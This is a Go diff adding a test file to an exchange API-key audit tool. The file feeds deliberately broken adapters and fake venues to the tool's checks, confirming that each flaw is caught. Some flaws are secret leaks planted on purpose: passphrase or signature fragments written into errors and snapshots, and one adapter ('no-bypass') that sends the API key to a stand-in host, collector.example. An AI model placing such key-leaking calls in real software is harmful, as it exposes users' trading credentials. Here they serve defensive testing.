@@ -1,0 +1,359 @@
+package exchangetest
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"net/http"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+
+	"github.com/exchangekeyaudit/exchangekeyaudit/audit"
+	"github.com/exchangekeyaudit/exchangekeyaudit/exchanges/internal/wire"
+)
+
+// flaw breaks the reference in one place; the property must see it.
+type flaw struct {
+	name, property string
+	steps          func(*steps)
+	adapter        func(*audit.Exchange)
+	fake           func(*definition)
+}
+
+// after changes what the adapter found.
+func after(f func(*audit.Snapshot)) func(*steps) {
+	return func(do *steps) { do.after = func(_ *audit.Session, s *audit.Snapshot) { f(s) } }
+}
+
+// refusing changes what the adapter makes of a refusal.
+func misread(f func(*audit.Error)) func(*steps) {
+	return func(do *steps) {
+		do.refusal = func(_ *audit.Session, err *audit.Error) error { f(err); return err }
+	}
+}
+
+// wrapped puts something around the adapter's Inspect.
+func wrapped(f func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error)) func(*audit.Exchange) {
+	return func(e *audit.Exchange) {
+		next := e.Inspect
+		e.Inspect = func(ctx context.Context, s *audit.Session) (*audit.Snapshot, error) { return f(ctx, s, next) }
+	}
+}
+
+type inspect = func(context.Context, *audit.Session) (*audit.Snapshot, error)
+
+func setGrant(s *audit.Snapshot, capability audit.Capability, state audit.State) {
+	for i := range s.Grants {
+		if s.Grants[i].Capability == capability {
+			s.Grants[i].State = state
+			return
+		}
+	}
+	s.Grants = append(s.Grants, audit.Grant{Capability: capability, State: state, Evidence: audit.Told})
+}
+
+// optimist takes whatever it can't read for a key without rights.
+func optimist(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+	found, err := next(ctx, s)
+	if e, ok := err.(*audit.Error); ok && e.Kind == audit.KindNotUnderstood {
+		found, err = &audit.Snapshot{}, nil
+		setGrant(found, audit.Withdraw, audit.Denied)
+	}
+	return found, err
+}
+
+var flaws = []flaw{
+	{name: "no documentation", property: "descriptor", adapter: func(e *audit.Exchange) { e.Docs = "" }},
+	{name: "a call without a reason", property: "descriptor", adapter: func(e *audit.Exchange) { e.Calls[0].Why = "" }},
+	{name: "a call that writes", property: "descriptor", adapter: func(e *audit.Exchange) { e.Calls[0].Method = http.MethodDelete }},
+	{name: "a call the fake doesn't have", property: "descriptor", adapter: func(e *audit.Exchange) {
+		e.Calls = append(e.Calls, audit.Call{Method: "GET", Path: "/old", Why: "history", When: "never"})
+	}},
+	{name: "plain http", property: "descriptor", adapter: func(e *audit.Exchange) { e.Environments[0].URLs[0] = "http://api.reference.example" }},
+	{name: "a host the fake doesn't know", property: "descriptor", adapter: func(e *audit.Exchange) { e.Environments[1].URLs[0] = "https://other.example" }},
+	{name: "a host no environment has", property: "descriptor", fake: func(d *definition) { d.hosts = append(d.hosts, "forgotten.example") }},
+	{name: "a kind of key nobody can test", property: "descriptor", adapter: func(e *audit.Exchange) { e.Needs.Kinds = append(e.Needs.Kinds, audit.RSAKey) }},
+
+	{name: "a fake that signs otherwise than documented", property: "vectors", fake: func(d *definition) { d.vectors[0].Header["X-Time"] = "1776149990533" }},
+	{name: "a fake without vectors", property: "vectors", fake: func(d *definition) { d.vectors = nil }},
+
+	{name: "a fake that doesn't verify", property: "verifier", fake: func(d *definition) { d.verify = func(*call) *Reply { return nil } }},
+	{name: "a fake that doesn't look at the time", property: "verifier", fake: func(d *definition) {
+		verify := d.verify
+		d.verify = func(c *call) *Reply { c.now = noonOf(c); return verify(c) }
+	}},
+	{name: "a fake that doesn't look at the passphrase", property: "verifier", fake: func(d *definition) {
+		verify := d.verify
+		d.verify = func(c *call) *Reply { c.Header.Set("X-Pass", c.key.passphrase); return verify(c) }
+	}},
+	{name: "a fake that signs without the path", property: "verifier", fake: func(d *definition) {
+		verify := d.verify
+		d.verify = func(c *call) *Reply {
+			in := *c
+			in.Request = c.Clone(c.Context())
+			if in.URL.Path != "/allowlist" {
+				in.URL.Path = "/account"
+			}
+			return verify(&in)
+		}
+	}},
+
+	{name: "one header more", property: "request", steps: func(do *steps) { do.dress = func(h http.Header) { h.Set("X-Broker", "friend") } }},
+	{name: "a wrong signing input", property: "request", steps: func(do *steps) {
+		do.text = func(stamp, key, host, path string) string { return key + stamp + host + path }
+	}},
+
+	{name: "an undeclared call", property: "guard", adapter: func(e *audit.Exchange) { e.Calls = e.Calls[1:] }},
+	{name: "a call made twice", property: "guard", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+		_, _ = next(ctx, s)
+		return next(ctx, s)
+	})},
+	{name: "a call declared and not made", property: "guard", adapter: func(e *audit.Exchange) { e.Calls[2].When = "" }},
+
+	{name: "always the first host", property: "environments", steps: func(do *steps) {
+		do.text = func(stamp, key, _, path string) string { return stamp + key + "api.reference.example" + path }
+	}},
+
+	{name: "a fake that works in the process only", property: "served", fake: func(d *definition) {
+		verify := d.verify
+		d.verify = func(c *call) *Reply {
+			in := *c
+			in.Request = c.Clone(c.Context())
+			in.Host = c.URL.Host
+			return verify(&in)
+		}
+	}},
+
+	{name: "the guard's refusal hidden", property: "redirect", steps: misread(func(err *audit.Error) {
+		if err.Kind == audit.KindGuard {
+			err.Kind = audit.KindUnavailable
+		}
+	})},
+
+	{name: "another label", property: "answers", steps: after(func(s *audit.Snapshot) { s.Label += "!" })},
+
+	{name: "another order each time", property: "answers", adapter: func(e *audit.Exchange) {
+		var turn atomic.Int64
+		wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+			found, err := next(ctx, s)
+			if err == nil && turn.Add(1)%3 == 0 {
+				found.Notes = []string{"b", "a"}
+			}
+			return found, err
+		})(e)
+	}},
+
+	{name: "seconds for milliseconds", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.Created = time.Unix(s.Created.UnixMilli(), 0) })},
+	{name: "* not seen as open", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.IPAllowlist.State = audit.AllowlistRestricted })},
+	{name: "a wrong capability", property: "round-trip", steps: after(func(s *audit.Snapshot) {
+		setGrant(s, audit.Withdraw, s.Grant(audit.TradeFutures).State)
+	})},
+	{name: "a right not granted", property: "round-trip", steps: after(func(s *audit.Snapshot) { setGrant(s, audit.TradeSpot, audit.Unknown) })},
+	{name: "a sub-account taken for a main one", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.Account.Kind = audit.MainAccount })},
+	{name: "the expiry dropped", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.Expires = time.Time{} })},
+
+	{name: "a promise not kept", property: "coverage", adapter: func(e *audit.Exchange) { e.Coverage.LastUsed = audit.Sometimes }},
+	{name: "a fact not promised", property: "coverage", adapter: func(e *audit.Exchange) { e.Coverage.Created = audit.Never }},
+	{name: "a capability that no key has", property: "coverage", adapter: func(e *audit.Exchange) {
+		e.Coverage.Tells = append(e.Coverage.Tells, audit.TradeOptions)
+	}},
+
+	{name: "one algorithm for all", property: "key-kinds", steps: func(do *steps) {
+		do.algorithm = func(audit.KeyKind) audit.Algorithm { return audit.HMACSHA256 }
+	}},
+
+	{name: "unknown names dropped", property: "unknown-permission", steps: after(func(s *audit.Snapshot) { s.Unmapped = nil })},
+	{name: "unknown names taken for a right", property: "unknown-permission", steps: after(func(s *audit.Snapshot) {
+		if len(s.Unmapped) > 0 {
+			setGrant(s, audit.TradeFutures, audit.Denied)
+			s.Notes = append(s.Notes, "odd")
+		}
+	})},
+
+	{name: "a missing field read as denied", property: "missing-field", steps: after(func(s *audit.Snapshot) {
+		if s.Grant(audit.Withdraw).State == audit.Unknown {
+			setGrant(s, audit.Withdraw, audit.Denied)
+		}
+	})},
+	{name: "a missing field read as bound", property: "missing-field", steps: after(func(s *audit.Snapshot) {
+		if s.IPAllowlist.State == audit.AllowlistUnknown {
+			s.IPAllowlist.State = audit.AllowlistRestricted
+		}
+	})},
+	{name: "a missing field read as a sub-account", property: "missing-field", steps: after(func(s *audit.Snapshot) {
+		if s.Account.Kind == audit.AccountUnknown {
+			s.Account.Kind = audit.SubAccount
+		}
+	})},
+	{name: "a missing date read as today", property: "missing-field", steps: after(func(s *audit.Snapshot) {
+		if s.Created.IsZero() {
+			s.Created = noon
+		}
+	})},
+
+	{name: "the last of two members", property: "doubled-field", steps: func(do *steps) {
+		do.decode = func(body []byte) (wire.Object, error) {
+			var v any
+			if json.Unmarshal(body, &v) != nil {
+				return wire.Parse(body)
+			}
+			body, err := json.Marshal(v)
+			if err != nil {
+				return wire.Object{}, err
+			}
+			return wire.Parse(body)
+		}
+	}},
+
+	{name: "another type read as none", property: "wrong-type", adapter: wrapped(optimist)},
+	{name: "half an answer taken for one", property: "truncated", adapter: wrapped(optimist)},
+	{name: "any answer taken for one", property: "garbage", adapter: wrapped(optimist)},
+	{name: "a proxy's refusal taken for the venue's", property: "garbage", steps: misread(func(err *audit.Error) {
+		if err.Status == http.StatusForbidden {
+			err.Kind = audit.KindIPNotAllowed
+		}
+	})},
+	{name: "a panic", property: "garbage", steps: func(do *steps) {
+		do.decode = func(body []byte) (wire.Object, error) { _ = body[1]; return wire.Parse(body) }
+	}},
+
+	{name: "an error code off by one", property: "failures", steps: misread(func(err *audit.Error) {
+		if err.Code == "bad_key" {
+			err.Kind = audit.KindBadSignature
+		}
+	})},
+	{name: "the answer's code ignored", property: "failures", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+		found, err := next(ctx, s)
+		if e, ok := err.(*audit.Error); ok && e.Status == http.StatusOK {
+			return &audit.Snapshot{}, nil
+		}
+		return found, err
+	})},
+	{name: "the status lost", property: "failures", steps: misread(func(err *audit.Error) { err.Status = 0 })},
+	{name: "the candidates lost", property: "failures", steps: misread(func(err *audit.Error) { err.Candidates = nil })},
+	{name: "retries by itself", property: "failures", steps: func(do *steps) { do.tries = 3 }},
+
+	{name: "an unknown code explained away", property: "undocumented", steps: misread(func(err *audit.Error) {
+		if err.Kind == audit.KindNotUnderstood {
+			err.Kind = audit.KindBadKey
+		}
+	})},
+	{name: "a refusal without a code taken for an answer", property: "undocumented", adapter: wrapped(optimist)},
+	{name: "the code lost", property: "undocumented", steps: misread(func(err *audit.Error) {
+		if err.Kind == audit.KindNotUnderstood {
+			err.Code = ""
+		}
+	})},
+
+	{name: "an overload taken for a wrong key", property: "transport", steps: misread(func(err *audit.Error) {
+		if err.Kind == audit.KindUnavailable {
+			err.Kind = audit.KindBadKey
+		}
+	})},
+	{name: "retries a broken connection by itself", property: "transport", steps: func(do *steps) { do.tries = 2 }},
+
+	{name: "a wrong clock of the venue", property: "clock", adapter: func(e *audit.Exchange) {
+		e.ServerTime = func(context.Context, *audit.Session) (time.Time, error) { return noon.Add(-day), nil }
+	}},
+
+	{name: "half the secret in the error", property: "secrecy", steps: func(do *steps) {
+		do.refusal = func(s *audit.Session, err *audit.Error) error {
+			err.Message = "with " + s.Passphrase()[:len(s.Passphrase())/2]
+			return err
+		}
+	}},
+	{name: "the signature in the error", property: "secrecy", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+		found, err := next(ctx, s)
+		if e, ok := err.(*audit.Error); ok {
+			signature, _ := s.Sign(ctx, audit.HMACSHA256, "x")
+			e.Message = base64.StdEncoding.EncodeToString(append([]byte("sign:"), signature...))
+		}
+		return found, err
+	})},
+	{name: "the passphrase in the snapshot", property: "secrecy", steps: func(do *steps) {
+		do.after = func(s *audit.Session, found *audit.Snapshot) {
+			found.Facts = append(found.Facts, audit.Fact{Name: "x", Value: strings.ToUpper(hexed(s.Passphrase()[:20]))})
+		}
+	}},
+
+	{name: "ignores the context", property: "cancel", steps: func(do *steps) {
+		do.context = func(context.Context) context.Context { return context.Background() }
+	}},
+	{name: "signs without the context", property: "cancel", steps: func(do *steps) {
+		do.signing = func(context.Context) context.Context { return context.Background() }
+	}},
+	{name: "sleeps", property: "cancel", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+		found, err := next(ctx, s)
+		time.Sleep(10 * time.Second)
+		return found, err
+	})},
+
+	{name: "shares what it found", property: "parallel", adapter: func(e *audit.Exchange) {
+		var latest atomic.Pointer[string] // no race, and wrong all the same
+		wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+			key := s.Key()
+			latest.Store(&key)
+			found, err := next(ctx, s)
+			if err == nil {
+				found.Label = *latest.Load()
+			}
+			return found, err
+		})(e)
+	}},
+
+	{name: "goes past the session", property: "no-bypass", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
+		if resp, err := http.Get("https://collector.example/?key=" + s.Key()); err == nil { //nolint:noctx // that is the flaw
+			_ = resp.Body.Close()
+		}
+		return next(ctx, s)
+	})},
+}
+
+// TestFlaws: each broken adapter, or fake, is seen by the property it breaks.
+func TestFlaws(t *testing.T) {
+	t.Setenv("UPDATE_GOLDEN", "") // a flaw must not become the norm
+	seen := map[string]bool{}
+	for _, f := range flaws {
+		seen[f.property] = true
+		t.Run(f.property+"/"+f.name, func(t *testing.T) {
+			do := soundSteps()
+			if f.steps != nil {
+				f.steps(&do)
+			}
+			e := referenceExchange(do, false)
+			if f.adapter != nil {
+				f.adapter(e)
+			}
+			venue := func() *Venue {
+				def := referenceVenue(false)
+				if f.fake != nil {
+					f.fake(&def)
+				}
+				return newVenue(def)
+			}
+			for _, p := range properties {
+				if p.name == f.property {
+					assert.NotEmpty(t, problems(t, e, venue, p, referenceDir))
+				}
+			}
+		})
+	}
+	for _, p := range properties {
+		assert.True(t, seen[p.name], "no flaw shows that %q is checked", p.name)
+	}
+}
+
+// noonOf gives a request's own time, as a venue would that trusts it.
+func noonOf(c *call) time.Time {
+	ms, err := time.ParseDuration(c.Header.Get("X-Time") + "ms")
+	if err != nil {
+		return c.now
+	}
+	return time.UnixMilli(ms.Milliseconds())
+}
+
+func hexed(s string) string { return spellings(s)[1].text }
